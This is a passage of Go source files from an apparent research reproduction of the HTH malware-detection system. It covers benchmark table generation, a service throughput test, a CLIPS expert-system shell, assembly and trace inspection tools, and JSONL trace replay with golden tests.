		return report.TableIDs, true
	}
	fmt.Fprintf(os.Stderr, "hth-bench: unknown table %q\n", sel)
	os.Exit(2)
	return nil, false
}

func printTable(id string) (failures int) {
	if id == "T1" {
		return printTable1()
	}
	t := &report.Table{
		Title:  report.Titles[id],
		Header: []string{"Benchmark", "HTH outcome", "Paper expectation"},
	}
	for _, sc := range corpus.ByTable(id) {
		res, err := sc.Run()
		if err != nil {
			t.Add(sc.Row, "ERROR: "+err.Error(), "—")
			failures++
			continue
		}
		verdict := sc.Verdict(res)
		if verdict != "reproduced" {
			failures++
		}
		t.Add(sc.Row, corpus.Outcome(res), verdict)
	}
	fmt.Println(t)
	return failures
}

// printTable1 regenerates the paper's Table 1: the execution-pattern
// columns derived from HTH's warnings on the §2.1 malware models.
func printTable1() (failures int) {
	t := &report.Table{
		Title: report.Titles["T1"],
		Header: []string{"Exploit Name", "No user intervention",
			"Remotely directed", "Hard-coded Resources", "Degrading performance", "Status"},
	}
	mark := func(b bool) string {
		if b {
			return "x"
		}
		return ""
	}
	for _, sc := range corpus.ByTable("T1") {
		res, err := sc.Run()
		if err != nil {
			t.Add(sc.Row, "", "", "", "", "ERROR: "+err.Error())
			failures++
			continue
		}
		verdict := sc.Verdict(res)
		if verdict != "reproduced" {
			failures++
		}
		hard, remote, degrading := corpus.Table1Row(res)
		// Every model runs without user direction by construction.
		t.Add(sc.Row, "x", mark(remote), mark(hard), mark(degrading), verdict)
	}
	fmt.Println(t)
	return failures
}

func printPerf() {
	t := &report.Table{
		Title:  "Section 9: Performance (virtual-machine throughput per monitoring level)",
		Header: []string{"Workload", "Mode", "Guest instrs", "Wall time", "Slowdown vs bare"},
	}
	for _, wl := range corpus.PerfWorkloads() {
		var bare time.Duration
		for _, mode := range []corpus.PerfMode{corpus.PerfBare, corpus.PerfNoDataflow, corpus.PerfFull} {
			start := time.Now()
			res, err := corpus.RunPerf(wl, mode)
			elapsed := time.Since(start)
			if err != nil {
				fmt.Fprintf(os.Stderr, "hth-bench: perf %s/%s: %v\n", wl, mode, err)
				os.Exit(1)
			}
			if mode == corpus.PerfBare {
				bare = elapsed
			}
			slow := "1.00x"
			if bare > 0 {
				slow = fmt.Sprintf("%.2fx", float64(elapsed)/float64(bare))
			}
			t.Add(wl, mode.String(), fmt.Sprint(res.TotalSteps),
				elapsed.Round(time.Microsecond).String(), slow)
		}
	}
	fmt.Println(t)
	fmt.Println("Shape check (paper §9): data-flow tracking dominates the overhead;")
	fmt.Println("'full' must cost clearly more than 'nodataflow', which costs more than 'bare'.")
}
