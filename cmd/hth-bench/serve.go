package main

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"runtime"
	"time"

	hth "repro"
	"repro/internal/corpus"
	"repro/internal/obs"
)

// serveReport is the "serve" section of BENCH_<date>.json: service
// throughput over the full corpus plus the identity verdict.
type serveReport struct {
	Jobs        int     `json:"jobs"`
	Shards      int     `json:"shards"`
	Workers     int     `json:"workers_per_shard"`
	WallNS      int64   `json:"wall_ns"`
	JobsPerSec  float64 `json:"jobs_per_sec"`
	Mismatches  int     `json:"signature_mismatches"`
	BatchWallNS int64   `json:"batch_wall_ns"`

	// TierMix is the fleet-wide execution-tier mix over all jobs — the
	// same counters batch mode reports per perf row, so serve-vs-batch
	// tier behaviour is comparable inside one BENCH_<date>.json.
	TierMix hth.TierMix `json:"tier_mix"`

	// Latency is the per-stage p50/p95/p99 rollup (milliseconds) over
	// all jobs, straight from the service's span-fed histograms.
	Latency map[string]obs.LatencyRollup `json:"latency_ms,omitempty"`
}

// runServe benchmarks the analysis service against the batch sweep:
// every corpus scenario is submitted as a service job, the sweep
// signatures must match the direct RunAll element-wise (the service
// machinery must be invisible to detection), and the achieved jobs/s
// lands in the dated benchmark JSON under "serve".
func runServe(parallel int, jsonOut bool) int {
	if parallel <= 0 {
		parallel = runtime.GOMAXPROCS(0)
	}
	scs := corpus.All()
	fmt.Printf("serve bench: %d corpus jobs through hth.Service\n", len(scs))

	batchStart := time.Now()
	batch := corpus.SweepSignature(corpus.RunAll(scs, parallel))
	batchWall := time.Since(batchStart)

	shards := 4
	workers := (parallel + shards - 1) / shards
	svc := hth.NewService(hth.ServiceConfig{
		Shards: shards, WorkersPerShard: workers, QueueDepth: len(scs),
	})
	start := time.Now()
	handles := make([]*hth.JobHandle, len(scs))
	for i, sc := range scs {
		h, err := svc.Submit(hth.JobSpec{
			Tenant: sc.Table,
			Setup:  sc.Setup, Tweak: sc.Tweak,
			Path: sc.Spec.Path, Argv: sc.Spec.Argv,
			Env: sc.Spec.Env, Stdin: sc.Spec.Stdin,
		})
		if err != nil {
			fmt.Fprintf(os.Stderr, "hth-bench: -serve: submit %s: %v\n", sc.Name, err)
			return 1
		}
		handles[i] = h
	}
	outs := make([]corpus.RunOutcome, len(scs))
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	for i, h := range handles {
		res, err := h.Wait(ctx)
		if err != nil {
			fmt.Fprintf(os.Stderr, "hth-bench: -serve: job %s lost: %v\n", h.ID(), err)
			return 1
		}
		outs[i] = corpus.RunOutcome{Scenario: scs[i]}
		if res.Status != "done" {
			outs[i].Err = fmt.Errorf("service status %q: %v", res.Status, res.Error)
			continue
		}
		outs[i].Result = res.Raw
		outs[i].Problems = scs[i].Check(res.Raw)
	}
	wall := time.Since(start)
	dctx, dcancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer dcancel()
	if err := svc.Drain(dctx); err != nil {
		fmt.Fprintf(os.Stderr, "hth-bench: -serve: drain: %v\n", err)
		return 1
	}

	mismatches := 0
	service := corpus.SweepSignature(outs)
	for i := range batch {
		if service[i] != batch[i] {
			mismatches++
			fmt.Printf("SIGNATURE DRIFT\n  batch:   %s\n  service: %s\n", batch[i], service[i])
		}
	}
	health := svc.Health()
	rep := serveReport{
		Jobs: len(scs), Shards: shards, Workers: workers,
		WallNS: wall.Nanoseconds(), JobsPerSec: float64(len(scs)) / wall.Seconds(),
		Mismatches: mismatches, BatchWallNS: batchWall.Nanoseconds(),
		TierMix: health.TierMix,
		Latency: health.Latency,
	}
	fmt.Printf("serve: %d jobs in %s (%.1f jobs/s, batch sweep %s); signature mismatches: %d\n",
		rep.Jobs, wall.Round(time.Millisecond), rep.JobsPerSec,
		batchWall.Round(time.Millisecond), mismatches)
	fmt.Printf("serve tier mix: %d blocks (interp %d, summary %d, trace %d, clean %d; reinstrumented %d)\n",
		rep.TierMix.Blocks, rep.TierMix.Interp, rep.TierMix.Summary,
		rep.TierMix.Trace, rep.TierMix.Clean, rep.TierMix.Reinstrumented)
	for _, stage := range []string{"queue", "exec", "e2e"} {
		if lr, ok := rep.Latency[stage]; ok {
			fmt.Printf("serve latency %-5s p50 %.2fms  p95 %.2fms  p99 %.2fms  (n=%d)\n",
				stage, lr.P50MS, lr.P95MS, lr.P99MS, lr.Count)
		}
	}

	if jsonOut {
		path := fmt.Sprintf("BENCH_%s.json", time.Now().Format("2006-01-02"))
		if err := writeServeJSON(path, rep); err != nil {
			fmt.Fprintf(os.Stderr, "hth-bench: -serve: %v\n", err)
			return 1
		}
		fmt.Printf("wrote %s (serve section)\n", path)
	}
	if mismatches > 0 {
		return 1
	}
	return 0
}

// writeServeJSON merges the "serve" section into the dated benchmark
// report, preserving every other top-level key (perf, metrics, ...).
func writeServeJSON(path string, rep serveReport) error {
	doc := map[string]any{}
	if old, err := os.ReadFile(path); err == nil {
		_ = json.Unmarshal(old, &doc)
	}
	if _, ok := doc["date"]; !ok {
		doc["date"] = time.Now().Format("2006-01-02")
	}
	doc["serve"] = rep
	out, err := json.MarshalIndent(doc, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(out, '\n'), 0o644)
}
