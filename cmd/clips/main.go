// Command clips is a small interactive shell for the HTH expert
// system — the same engine Secpert runs on, driven with the CLIPS
// syntax of the paper's Appendix A.
//
//	$ go run ./cmd/clips
//	CLIPS> (deftemplate person (slot name))
//	CLIPS> (defrule hi (person (name ?n)) => (printout t "hi " ?n crlf))
//	CLIPS> (assert (person (name world)))
//	CLIPS> (run)
//	FIRE 1 hi: f-1
//	hi world
//	1 rules fired
//
// A file argument evaluates the file then exits:
//
//	clips policy.clp
package main

import (
	"bufio"
	"fmt"
	"os"
	"strings"

	"repro/internal/expert"
)

func main() {
	eng := expert.NewEngine()
	eng.Out = os.Stdout
	env := expert.NewClips(eng)
	env.Out = os.Stdout

	if len(os.Args) > 1 {
		src, err := os.ReadFile(os.Args[1])
		if err != nil {
			fmt.Fprintf(os.Stderr, "clips: %v\n", err)
			os.Exit(1)
		}
		if err := env.Eval(string(src)); err != nil {
			fmt.Fprintf(os.Stderr, "clips: %v\n", err)
			os.Exit(1)
		}
		return
	}

	in := bufio.NewScanner(os.Stdin)
	var pending strings.Builder
	fmt.Print("CLIPS> ")
	for in.Scan() {
		pending.WriteString(in.Text())
		pending.WriteString("\n")
		if balanced(pending.String()) {
			src := pending.String()
			pending.Reset()
			if strings.TrimSpace(src) != "" {
				if err := env.Eval(src); err != nil {
					fmt.Printf("error: %v\n", err)
				}
			}
			fmt.Print("CLIPS> ")
		}
	}
	fmt.Println()
}

// balanced reports whether every opened paren is closed (ignoring
// strings and comments), so multi-line forms can be typed.
func balanced(s string) bool {
	depth := 0
	inStr := false
	inComment := false
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case inComment:
			if c == '\n' {
				inComment = false
			}
		case inStr:
			if c == '\\' {
				i++
			} else if c == '"' {
				inStr = false
			}
		case c == '"':
			inStr = true
		case c == ';':
			inComment = true
		case c == '(':
			depth++
		case c == ')':
			depth--
		}
	}
	return depth <= 0 && !inStr
}
