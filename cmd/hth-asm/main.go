// Command hth-asm assembles guest programs and inspects the result:
// disassembly, symbol table, and the Harrier instrumentation plan of
// paper Figure 5.
//
//	hth-asm -in prog.s -disasm
//	hth-asm -in prog.s -instrument
//	hth-asm -in prog.s -symbols
package main

import (
	"flag"
	"fmt"
	"os"
	"sort"

	"repro/internal/asm"
	"repro/internal/harrier"
	"repro/internal/image"
	"repro/internal/isa"
	"repro/internal/loader"
	"repro/internal/secbin"
)

func main() {
	var (
		in         = flag.String("in", "", "guest assembly file")
		disasm     = flag.Bool("disasm", false, "print the loaded disassembly")
		instrument = flag.Bool("instrument", false, "print the Harrier instrumentation plan (paper Figure 5)")
		symbols    = flag.Bool("symbols", false, "print the symbol table")
		secure     = flag.Bool("secure", false, "run the Secure Binary verifier (paper Appendix B)")
	)
	flag.Parse()
	if *in == "" {
		flag.Usage()
		os.Exit(2)
	}
	src, err := os.ReadFile(*in)
	if err != nil {
		fatalf("%v", err)
	}
	img, err := asm.Assemble(*in, string(src))
	if err != nil {
		fatalf("%v", err)
	}
	fmt.Printf("image %s: %d section(s), %d symbol(s), %d relocation(s)\n",
		img.Name, len(img.Sections), len(img.Symbols), len(img.Relocs))

	if *symbols {
		printSymbols(img)
	}
	exitCode := 0
	if *secure {
		rep, err := secbin.Verify(img)
		if err != nil {
			fatalf("secure-binary check: %v", err)
		}
		fmt.Print(rep)
		if !rep.Secure() {
			exitCode = 1
		}
	}
	if !*disasm && !*instrument {
		os.Exit(exitCode)
	}
	defer os.Exit(exitCode)

	// Load standalone (imports unresolved here) to obtain real spans.
	cpu := isa.NewCPU()
	li, err := loader.NewMap().Load(cpu, img, &loader.Env{
		Resolve: func(name string) (*image.Image, error) {
			return nil, fmt.Errorf("hth-asm inspects single images; import %q not loaded", name)
		},
	})
	if err != nil {
		fatalf("load: %v", err)
	}
	for _, span := range li.Spans {
		if *disasm {
			fmt.Printf("\n; span %#x..%#x (%d basic blocks)\n%s",
				span.Base, span.End(), span.NumBlocks(), span.Disassemble())
		}
		if *instrument {
			fmt.Printf("\n; instrumentation plan (Figure 5)\n%s",
				harrier.InstrumentationPlan(span))
		}
	}
}

func printSymbols(img *image.Image) {
	names := make([]string, 0, len(img.Symbols))
	for n := range img.Symbols {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		sym := img.Symbols[n]
		fmt.Printf("  %-20s section %d offset %d\n", n, sym.Section, sym.Offset)
	}
}

func fatalf(format string, args ...any) {
	fmt.Fprintf(os.Stderr, "hth-asm: "+format+"\n", args...)
	os.Exit(1)
}
