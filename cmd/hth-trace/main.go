// Command hth-trace single-steps a guest program and prints every
// executed instruction with its taint effects — a debugging lens on
// exactly what Harrier's Track_DataFlow sees — or replays a recorded
// JSONL event trace (the hth.JSONL observer's output).
//
//	hth-trace -in prog.s [-limit 200] [-taint] [-provenance] [-symbols] [-perfetto out.json] [arg ...]
//	hth-trace -replay run.jsonl[.gz] [-layer vos] [-pid 1] [-kind syscall.enter] [-rule RULE]
//	hth-trace -replay run.jsonl -summary
//	hth-trace -replay run.jsonl -spans [-perfetto out.json]
//
// -summary on a span-bearing trace appends a per-job latency rollup
// (queue/exec/total). -spans re-threads span.start/span.end events
// into per-trace timelines and writes Chrome trace_event JSON for
// Perfetto.
package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	hth "repro"
	"repro/internal/image"
	"repro/internal/isa"
	"repro/internal/obs"
	"repro/internal/taint"
	"repro/internal/vos"
)

func main() {
	var (
		in        = flag.String("in", "", "guest assembly file")
		limit     = flag.Int("limit", 500, "maximum instructions to trace")
		showTaint = flag.Bool("taint", false, "print register tags after each instruction")
		stdin     = flag.String("stdin", "", "guest stdin")
		prov      = flag.Bool("provenance", false, "trace taint provenance and print every source's causal chain")
		symbols   = flag.Bool("symbols", false, "with -provenance: render block hops as image:symbol+delta frames when symbols exist")
		perfetto  = flag.String("perfetto", "", "with -provenance: write a Chrome trace_event JSON for Perfetto to this file")

		replayIn  = flag.String("replay", "", "replay a JSONL event trace (plain or gzipped) instead of running a guest")
		layerName = flag.String("layer", "", "replay: only events from this layer (run|vos|harrier|secpert|chaos)")
		kindName  = flag.String("kind", "", "replay: only events of this kind (e.g. syscall.enter)")
		pid       = flag.Int("pid", -1, "replay: only events for this guest pid")
		rule      = flag.String("rule", "", "replay: only rule.fire/warning events for this rule")
		summary   = flag.Bool("summary", false, "replay: print per-layer/kind/rule counts instead of events")
		spans     = flag.Bool("spans", false, "replay: reconstruct lifecycle spans into Chrome trace_event JSON (to -perfetto path, else stdout)")
	)
	flag.Parse()
	if *replayIn != "" {
		if *spans {
			if err := replaySpans(*replayIn, *perfetto); err != nil {
				fatalf("%v", err)
			}
			return
		}
		pidStr := ""
		if *pid >= 0 {
			pidStr = strconv.Itoa(*pid)
		}
		filter, err := obs.ParseFilter(*layerName, *kindName, pidStr, *rule)
		if err != nil {
			fatalf("%v", err)
		}
		if err := replay(os.Stdout, *replayIn, &filter, *summary); err != nil {
			fatalf("%v", err)
		}
		return
	}
	if *in == "" {
		flag.Usage()
		os.Exit(2)
	}
	src, err := os.ReadFile(*in)
	if err != nil {
		fatalf("%v", err)
	}

	sys := hth.NewSystem()
	guestPath := "/bin/" + strings.TrimSuffix(filepath.Base(*in), ".s")
	if image.IsELF(src) {
		if err := sys.InstallBinary(guestPath, src); err != nil {
			fatalf("load: %v", err)
		}
	} else if err := sys.InstallSource(guestPath, string(src)); err != nil {
		fatalf("assemble: %v", err)
	}

	// Build the monitored world through the Session API so we can
	// splice a tracing hook in front of Harrier's.
	cfg := hth.DefaultConfig()
	if *prov {
		cfg.Provenance = true
		cfg.Symbolize = *symbols
	}
	sn := sys.NewSession(cfg)
	p, err := sn.Start(hth.RunSpec{
		Path:  guestPath,
		Argv:  append([]string{guestPath}, flag.Args()...),
		Stdin: []byte(*stdin),
	})
	if err != nil {
		fatalf("%v", err)
	}

	count := 0
	store := storeOf(p)
	inner := p.CPU.Hooks.OnInstr
	p.CPU.Hooks.OnInstr = func(c *isa.CPU, s *isa.Span, idx int) {
		if count < *limit {
			fmt.Printf("%08x %-14s %s\n", s.Addr(idx), shortImage(s.Image), s.Instrs[idx])
			if *showTaint && store != nil {
				printTags(c, store)
			}
		}
		if count == *limit {
			fmt.Printf("... trace limit reached (%d), continuing silently\n", *limit)
		}
		count++
		if inner != nil {
			inner(c, s, idx)
		}
	}

	res, err := sn.Wait()
	if err != nil {
		fatalf("%v", err)
	}
	fmt.Printf("\n%d instruction(s) executed; %d traced\n", res.TotalSteps, min(count, *limit))
	fmt.Print(res.Report())
	if *prov && res.Provenance != nil {
		fmt.Println("provenance chains:")
		for _, ch := range res.Provenance.Chains() {
			fmt.Printf("  %s\n", ch)
		}
		if *perfetto != "" {
			f, err := os.Create(*perfetto)
			if err != nil {
				fatalf("%v", err)
			}
			if err := res.Provenance.WriteChromeTrace(f); err != nil {
				fatalf("perfetto: %v", err)
			}
			if err := f.Close(); err != nil {
				fatalf("perfetto: %v", err)
			}
			fmt.Printf("perfetto trace written to %s\n", *perfetto)
		}
	}
}

func storeOf(p *vos.Process) *taint.Store {
	if p.CPU.Shadow == nil {
		return nil
	}
	return p.CPU.Shadow.Store()
}

func printTags(c *isa.CPU, store *taint.Store) {
	var parts []string
	for r := isa.EAX; r < isa.NumRegs; r++ {
		if t := c.RegTags[r]; t != taint.Empty {
			parts = append(parts, fmt.Sprintf("%s=%s", r, store.String(t)))
		}
	}
	if len(parts) > 0 {
		fmt.Printf("         tags: %s\n", strings.Join(parts, " "))
	}
}

func shortImage(name string) string {
	if i := strings.LastIndexByte(name, '/'); i >= 0 {
		return name[i+1:]
	}
	return name
}

func fatalf(format string, args ...any) {
	fmt.Fprintf(os.Stderr, "hth-trace: "+format+"\n", args...)
	os.Exit(1)
}
