package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"testing"

	"repro/internal/obs"
)

var update = flag.Bool("update", false, "rewrite golden files")

// TestReplaySummaryGolden replays a span-bearing JSONL fixture (two
// service jobs — one retried — plus one batch run) and pins the full
// -summary output, including the per-job latency rollup. The batch
// "run" trace must not appear in the rollup.
func TestReplaySummaryGolden(t *testing.T) {
	filter, err := obs.ParseFilter("", "", "", "")
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := replay(&buf, filepath.Join("testdata", "spans.jsonl"), &filter, true); err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("testdata", "spans.summary.golden")
	if *update {
		if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run with -update to regenerate)", err)
	}
	if !bytes.Equal(buf.Bytes(), want) {
		t.Errorf("summary drifted from golden:\n--- got ---\n%s--- want ---\n%s", buf.Bytes(), want)
	}
}

// TestReplaySpansChrome reconstructs the fixture's spans and checks the
// Chrome trace_event export is valid JSON with one complete event per
// span and one tid per trace.
func TestReplaySpansChrome(t *testing.T) {
	f, err := os.Open(filepath.Join("testdata", "spans.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	idx := newSpanIndex()
	if err := obs.ReadJSONL(f, func(e obs.Event) error {
		idx.add(e)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := obs.WriteChromeSpans(&buf, idx.byTrace(), idx.maxEnd); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		TraceEvents []struct {
			Name string  `json:"name"`
			Ph   string  `json:"ph"`
			TID  int     `json:"tid"`
			Dur  float64 `json:"dur"`
			Args struct {
				Trace string `json:"trace"`
			} `json:"args"`
		} `json:"traceEvents"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatalf("invalid Chrome trace JSON: %v\n%s", err, buf.Bytes())
	}
	if got, want := len(doc.TraceEvents), 11; got != want {
		t.Fatalf("got %d trace events, want %d", got, want)
	}
	tids := map[string]int{}
	for _, ev := range doc.TraceEvents {
		if ev.Ph != "X" {
			t.Errorf("event %q: phase %q, want X", ev.Name, ev.Ph)
		}
		if prev, ok := tids[ev.Args.Trace]; ok && prev != ev.TID {
			t.Errorf("trace %q spread across tids %d and %d", ev.Args.Trace, prev, ev.TID)
		}
		tids[ev.Args.Trace] = ev.TID
	}
	if len(tids) != 3 {
		t.Errorf("got %d distinct traces, want 3 (j000001, j000002, batch-1)", len(tids))
	}
}
