package main

import (
	"fmt"
	"os"
	"sort"
	"strings"

	"repro/internal/obs"
)

// replay pretty-prints (or summarizes) a JSONL trace written by the
// hth.JSONL observer (plain or gzipped — flight dumps are gzipped by
// default). Only the filtered events are rendered, but the summary
// always counts the full stream. The filter syntax is obs.ParseFilter,
// shared with the introspection server's /events endpoint.
func replay(path string, filter *obs.Filter, summary bool) {
	f, err := os.Open(path)
	if err != nil {
		fatalf("%v", err)
	}
	defer f.Close()
	r, err := obs.MaybeGzip(f)
	if err != nil {
		fatalf("replay %s: %v", path, err)
	}

	var (
		total    uint64
		byLayer  = map[obs.Layer]uint64{}
		byKind   = map[obs.Kind]uint64{}
		byRule   = map[string]uint64{}
		warnings = map[string]uint64{}
	)
	err = obs.ReadJSONL(r, func(e obs.Event) error {
		total++
		byLayer[e.Layer]++
		byKind[e.Kind]++
		switch e.Kind {
		case obs.KindRuleFire:
			byRule[e.Str]++
		case obs.KindWarning:
			warnings[e.Str]++
		}
		if !summary && filter.Match(e) {
			fmt.Println(renderEvent(e))
		}
		return nil
	})
	if err != nil {
		fatalf("replay %s: %v", path, err)
	}
	if !summary {
		return
	}
	// The summary is deterministic for a deterministic guest: it never
	// includes wall-clock operands, and maps print in sorted order.
	fmt.Printf("events: %d\n", total)
	fmt.Println("by layer:")
	ls := make([]obs.Layer, 0, len(byLayer))
	for l := range byLayer {
		ls = append(ls, l)
	}
	sort.Slice(ls, func(i, j int) bool { return ls[i] < ls[j] })
	for _, l := range ls {
		fmt.Printf("  %-10s %d\n", l, byLayer[l])
	}
	fmt.Println("by kind:")
	for _, k := range sortedKinds(byKind) {
		fmt.Printf("  %-14s %d\n", k, byKind[k])
	}
	printCounts("rule fires", byRule)
	printCounts("warnings", warnings)
}

func sortedKinds(m map[obs.Kind]uint64) []obs.Kind {
	ks := make([]obs.Kind, 0, len(m))
	for k := range m {
		ks = append(ks, k)
	}
	sort.Slice(ks, func(i, j int) bool { return ks[i] < ks[j] })
	return ks
}

func printCounts(title string, m map[string]uint64) {
	if len(m) == 0 {
		return
	}
	names := make([]string, 0, len(m))
	for n := range m {
		names = append(names, n)
	}
	sort.Strings(names)
	fmt.Printf("%s:\n", title)
	for _, n := range names {
		fmt.Printf("  %-30s %d\n", n, m[n])
	}
}

// renderEvent formats one event as a trace line:
//
//	seq  vtime layer    kind           pid  payload
func renderEvent(e obs.Event) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%6d %8d %-8s %-14s", e.Seq, e.Time, e.Layer, e.Kind)
	if e.PID != 0 {
		fmt.Fprintf(&b, " pid=%d", e.PID)
	}
	switch e.Kind {
	case obs.KindSecText, obs.KindSecAssert:
		// CLIPS text chunks carry raw bytes, newlines included; show
		// them quoted on one line.
		fmt.Fprintf(&b, " %q", e.Str)
		return b.String()
	}
	if e.Num != 0 || e.Num2 != 0 {
		fmt.Fprintf(&b, " num=%d num2=%d", e.Num, e.Num2)
	}
	if e.Str != "" {
		fmt.Fprintf(&b, " %s", e.Str)
	}
	if e.Str2 != "" {
		fmt.Fprintf(&b, " %s", e.Str2)
	}
	return b.String()
}
