package main

import (
	"fmt"
	"io"
	"os"
	"sort"
	"strings"

	"repro/internal/obs"
)

// replay pretty-prints (or summarizes) a JSONL trace written by the
// hth.JSONL observer (plain or gzipped — flight dumps are gzipped by
// default). Only the filtered events are rendered, but the summary
// always counts the full stream. The filter syntax is obs.ParseFilter,
// shared with the introspection server's /events endpoint.
//
// For span-bearing traces the summary grows a per-job latency rollup:
// one line per "job" trace with its queue, exec, and end-to-end time
// reconstructed from the span.start/span.end pairs.
func replay(out io.Writer, path string, filter *obs.Filter, summary bool) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	r, err := obs.MaybeGzip(f)
	if err != nil {
		return fmt.Errorf("replay %s: %v", path, err)
	}

	var (
		total    uint64
		byLayer  = map[obs.Layer]uint64{}
		byKind   = map[obs.Kind]uint64{}
		byRule   = map[string]uint64{}
		warnings = map[string]uint64{}
		spans    = newSpanIndex()
	)
	err = obs.ReadJSONL(r, func(e obs.Event) error {
		total++
		byLayer[e.Layer]++
		byKind[e.Kind]++
		switch e.Kind {
		case obs.KindRuleFire:
			byRule[e.Str]++
		case obs.KindWarning:
			warnings[e.Str]++
		case obs.KindSpanStart, obs.KindSpanEnd:
			spans.add(e)
		}
		if !summary && filter.Match(e) {
			fmt.Fprintln(out, renderEvent(e))
		}
		return nil
	})
	if err != nil {
		return fmt.Errorf("replay %s: %v", path, err)
	}
	if !summary {
		return nil
	}
	// The summary is deterministic for a deterministic guest: it never
	// includes wall-clock operands, and maps print in sorted order.
	// (The job-latency rollup durations below are wall-clock derived —
	// deterministic only for replayed fixtures, like the golden's.)
	fmt.Fprintf(out, "events: %d\n", total)
	fmt.Fprintln(out, "by layer:")
	ls := make([]obs.Layer, 0, len(byLayer))
	for l := range byLayer {
		ls = append(ls, l)
	}
	sort.Slice(ls, func(i, j int) bool { return ls[i] < ls[j] })
	for _, l := range ls {
		fmt.Fprintf(out, "  %-10s %d\n", l, byLayer[l])
	}
	fmt.Fprintln(out, "by kind:")
	for _, k := range sortedKinds(byKind) {
		fmt.Fprintf(out, "  %-14s %d\n", k, byKind[k])
	}
	printCounts(out, "rule fires", byRule)
	printCounts(out, "warnings", warnings)
	spans.printRollup(out)
	return nil
}

// spanIndex re-threads interleaved span events into per-trace span
// lists. Span IDs are process-unique at recording time, so the end
// event's ID alone resolves its trace.
type spanIndex struct {
	byID   map[uint64]int // span id → index in spans
	spans  []obs.Span
	traces map[uint64]string // span id → trace id (from the start event)
	maxEnd int64
}

func newSpanIndex() *spanIndex {
	return &spanIndex{byID: map[uint64]int{}, traces: map[uint64]string{}}
}

func (x *spanIndex) add(e obs.Event) {
	switch e.Kind {
	case obs.KindSpanStart:
		x.byID[e.Num] = len(x.spans)
		x.traces[e.Num] = e.Str2
		x.spans = append(x.spans, obs.Span{
			ID: e.Num, Parent: e.Num2, Name: e.Str, Start: int64(e.Time),
		})
	case obs.KindSpanEnd:
		if i, ok := x.byID[e.Num]; ok {
			x.spans[i].End = int64(e.Time)
			x.spans[i].Status = e.Str2
			if int64(e.Time) > x.maxEnd {
				x.maxEnd = int64(e.Time)
			}
		}
	}
}

// byTrace groups the reconstructed spans per trace id.
func (x *spanIndex) byTrace() map[string][]obs.Span {
	out := map[string][]obs.Span{}
	for _, sp := range x.spans {
		id := x.traces[sp.ID]
		out[id] = append(out[id], sp)
	}
	return out
}

// printRollup emits the per-job latency lines for every trace rooted
// at a "job" span (service jobs; batch "run" traces are skipped so
// live-run summaries stay wall-clock-free).
func (x *spanIndex) printRollup(out io.Writer) {
	type roll struct{ queue, exec, total int64 }
	jobs := map[string]*roll{}
	for _, sp := range x.spans {
		id := x.traces[sp.ID]
		if sp.Parent == 0 {
			if sp.Name != "job" {
				continue
			}
			if jobs[id] == nil {
				jobs[id] = &roll{}
			}
			jobs[id].total = sp.Duration()
		}
	}
	if len(jobs) == 0 {
		return
	}
	for _, sp := range x.spans {
		j := jobs[x.traces[sp.ID]]
		if j == nil {
			continue
		}
		switch sp.Name {
		case "queue":
			j.queue += sp.Duration()
		case "exec":
			j.exec += sp.Duration()
		}
	}
	ids := make([]string, 0, len(jobs))
	for id := range jobs {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	fmt.Fprintln(out, "job latency:")
	for _, id := range ids {
		j := jobs[id]
		fmt.Fprintf(out, "  %-10s queue %s  exec %s  total %s\n",
			id, fmtMS(j.queue), fmtMS(j.exec), fmtMS(j.total))
	}
}

// fmtMS renders nanoseconds as fixed-point milliseconds.
func fmtMS(ns int64) string {
	return fmt.Sprintf("%.2fms", float64(ns)/1e6)
}

// replaySpans reconstructs every span in the JSONL trace and writes
// one Chrome trace_event JSON covering all traces (one tid per trace)
// to outPath, or stdout when empty.
func replaySpans(path, outPath string) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	r, err := obs.MaybeGzip(f)
	if err != nil {
		return fmt.Errorf("replay %s: %v", path, err)
	}
	spans := newSpanIndex()
	if err := obs.ReadJSONL(r, func(e obs.Event) error {
		spans.add(e)
		return nil
	}); err != nil {
		return fmt.Errorf("replay %s: %v", path, err)
	}
	out := io.Writer(os.Stdout)
	if outPath != "" {
		g, err := os.Create(outPath)
		if err != nil {
			return err
		}
		defer g.Close()
		out = g
	}
	if err := obs.WriteChromeSpans(out, spans.byTrace(), spans.maxEnd); err != nil {
		return fmt.Errorf("spans: %v", err)
	}
	if outPath != "" {
		fmt.Printf("perfetto span trace written to %s\n", outPath)
	}
	return nil
}

func sortedKinds(m map[obs.Kind]uint64) []obs.Kind {
	ks := make([]obs.Kind, 0, len(m))
	for k := range m {
		ks = append(ks, k)
	}
	sort.Slice(ks, func(i, j int) bool { return ks[i] < ks[j] })
	return ks
}

func printCounts(out io.Writer, title string, m map[string]uint64) {
	if len(m) == 0 {
		return
	}
	names := make([]string, 0, len(m))
	for n := range m {
		names = append(names, n)
	}
	sort.Strings(names)
	fmt.Fprintf(out, "%s:\n", title)
	for _, n := range names {
		fmt.Fprintf(out, "  %-30s %d\n", n, m[n])
	}
}

// renderEvent formats one event as a trace line:
//
//	seq  vtime layer    kind           pid  payload
func renderEvent(e obs.Event) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%6d %8d %-8s %-14s", e.Seq, e.Time, e.Layer, e.Kind)
	if e.PID != 0 {
		fmt.Fprintf(&b, " pid=%d", e.PID)
	}
	switch e.Kind {
	case obs.KindSecText, obs.KindSecAssert:
